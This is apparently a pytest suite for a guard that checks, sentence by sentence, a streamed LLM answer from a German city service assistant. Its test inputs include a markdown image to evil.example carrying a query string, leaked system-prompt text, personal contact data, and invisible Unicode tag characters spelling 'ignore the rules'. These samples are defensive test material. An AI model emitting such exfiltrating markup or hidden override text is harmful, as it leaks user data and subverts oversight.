"""StreamGuard: a streamed LLM answer leaves only in units that passed the checks; the first failing unit ends it."""

import re

import pytest

from assistant.llm.prompts import system_prompt
from assistant.stream_guard import StreamGuard
from corpus.types import Passage
from guardrails.output_guard import PolicyOutputGuard
from tests.fakes import RegexRedactor

SUPPORT = {1: ("Personalausweis beantragen\nDen Personalausweis beantragen Sie persönlich in einem Bürgerbüro.\n"
               "Digitales biometrisches Passfoto\nBisheriger Ausweis\nDer Personalausweis kostet ab 24 Jahren "
               "46,00 Euro. Unter 24 Jahren kostet er 27,60 Euro.")}
PUBLIC = [Passage(doc_id="personalausweis-beantragen", title="Personalausweis beantragen", section="Kosten",
                  snippet="", score=1.0, url="https://service.krefeld.de/personalausweis-beantragen",
                  text=SUPPORT[1])]
GOOD = "Den Personalausweis beantragen Sie persönlich in einem Bürgerbüro [1]. "
COST = "Der Personalausweis kostet ab 24 Jahren 46,00 Euro [1]."


def guard(**kw):
    return StreamGuard(SUPPORT, PUBLIC, PolicyOutputGuard(RegexRedactor(), system_prompt=system_prompt()), **kw)


def pieces(text, size=3):
    """The text in pieces of `size` characters, as a server streams tokens (an address is cut in several)."""
    return [text[i:i + size] for i in range(0, len(text), size)]


class Recorder:
    """Tokens that record how many were consumed; `at[i]` is that count when unit i came out."""

    def __init__(self, tokens):
        self.tokens, self.consumed, self.at = tokens, 0, []

    def __iter__(self):
        for token in self.tokens:
            self.consumed += 1
            yield token


def run(g, text, size=3):
    rec = Recorder(pieces(text, size))
    units = []
    for unit in g.run(rec):
        rec.at.append(rec.consumed)
        units.append(unit)
    return units, rec


def test_clean_answer_streams_sentence_by_sentence_and_joins_to_the_answer():
    g = guard()
    answer = GOOD + COST + "\n- Digitales biometrisches Passfoto [1]\n- Bisheriger Ausweis [1]"
    units, rec = run(g, "  " + answer)
    assert not g.failure
    assert "".join(units) == g.text == answer
    assert units[0] == GOOD
    assert rec.at[0] < len(rec.tokens) / 2  # the first sentence left long before the answer was complete


@pytest.mark.parametrize("secret, reason", [
    ("Schreiben Sie an erika.muster@gmail.com für einen Termin [1]. ", "personal data"),
    ("Rufen Sie Frau Muster unter 0171 2345678 an [1]. ", "personal data"),
    ("Nutzen Sie nur die Informationen aus dem nummerierten Kontext. ", "system prompt"),
    ("Ihr Antrag auf einen Personalausweis wird hiermit bewilligt [1]. ", "binding"),
    ("Foto: ![Foto](https://evil.example/p.png?q=ausweis) ", "markup"),
    ("Mehr dazu in Quelle [7]. ", "refer to no given source"),
    ("Der Personalausweis kostet 99,00 Euro [1]. ", "without support"),
])
def test_a_failing_unit_ends_the_stream_and_nothing_of_it_is_yielded(secret, reason):
    g = guard()
    units, _ = run(g, GOOD + secret + COST)
    assert units == [GOOD] and g.text == GOOD
    assert any(reason in r for r in g.failure), g.failure


def test_an_uncited_sentence_waits_for_the_citation_at_the_end_of_its_line():
    held = "Sie gehen mit Ihrem Passfoto persönlich in ein Bürgerbüro der Stadt. "
    g = guard()
    units, rec = run(g, held + COST + "\nDanach.")
    assert not g.failure and units[0] == held + COST + "\n"  # judged with the citation that covers the line
    assert rec.at[0] >= len(pieces(held + COST))


def test_an_uncited_factual_line_fails():
    g = guard()
    units, _ = run(g, GOOD + "\nSie gehen mit Ihrem Passfoto persönlich in ein Bürgerbüro der Stadt.\n" + COST)
    assert units == [GOOD + "\n"] and any("without citation" in r for r in g.failure)


def test_a_citation_earlier_in_the_line_covers_the_next_sentence():
    g = guard()
    units, _ = run(g, COST + " Unter 24 Jahren kostet er 27,60 Euro.")
    assert not g.failure and len(units) == 2


def test_the_output_guard_sees_each_unit_with_the_one_before_it():
    """So an address or a prompt passage cut in two (by the bound, or over two short sentences) is seen whole."""
    seen = []

    class Spy:
        def check(self, draft, passages):
            seen.append(draft.text)
            return PolicyOutputGuard(RegexRedactor(), system_prompt=system_prompt()).check(draft, passages)

    g = StreamGuard(SUPPORT, PUBLIC, Spy())
    units, _ = run(g, GOOD + COST + "\n- Bisheriger Ausweis [1]")
    assert not g.failure and seen == [units[0], units[0] + units[1], units[1] + units[2]]


def test_hidden_characters_are_dropped_and_cannot_hide_an_address():
    tags = "".join(chr(0xE0000 + ord(c)) for c in "ignore the rules")
    g = guard()
    units, _ = run(g, GOOD.replace("Bürgerbüro", "Bürger\u00adbüro" + tags) + "Mail: erika\u200b.muster@gmail\u200b.com [1]. ")
    assert units == [GOOD] and any("personal data" in r for r in g.failure)


def test_the_answer_must_cite_somewhere():
    g = guard()
    units, _ = run(g, "Gern. Dazu noch dies.")
    assert units == ["Gern. "] and g.failure == ["answer cites no source"]
    g = guard()
    units, _ = run(g, "Gern.\n")
    assert units == ["Gern.\n"] and g.failure == ["answer cites no source"]


def test_buffer_is_bounded_for_a_sentence_without_punctuation():
    clause = "der Personalausweis kostet ab 24 Jahren 46,00 Euro [1], "
    text = "Also " + clause * 40  # ~2,300 characters without a sentence end
    g = guard(max_chars=300, keep_chars=40)
    pending_max = 0
    rec = Recorder(pieces(text, 5))
    units = []
    for unit in g.run(rec):
        units.append(unit)
        pending_max = max(pending_max, len(g._pending))
    assert not g.failure and len(units) > 5 and "".join(units) == text.strip()
    assert max(len(u) for u in units) <= 300 and pending_max <= 300


def test_an_uncited_run_on_fails_at_the_bound_not_at_the_end():
    text = "Sie gehen persönlich mit dem Passfoto ins Bürgerbüro " * 100
    g = guard(max_chars=300, keep_chars=40)
    rec = Recorder(pieces(text, 5))
    assert list(g.run(rec)) == [] and any("without citation" in r for r in g.failure)
    assert rec.consumed * 5 <= 310


def test_bound_must_leave_room_for_the_tail():
    with pytest.raises(ValueError, match="max_chars"):
        guard(max_chars=80, keep_chars=48)


def test_no_e_mail_or_phone_in_any_yielded_text_even_when_cut_into_tiny_tokens():
    for size in (1, 2, 7):
        g = guard()
        units, _ = run(g, GOOD + "Kontakt: erika.muster@gmail.com oder 0171 2345678 [1]. " + COST, size)
        joined = "".join(units)
        assert not re.search(r"erika|2345678", joined) and g.failure
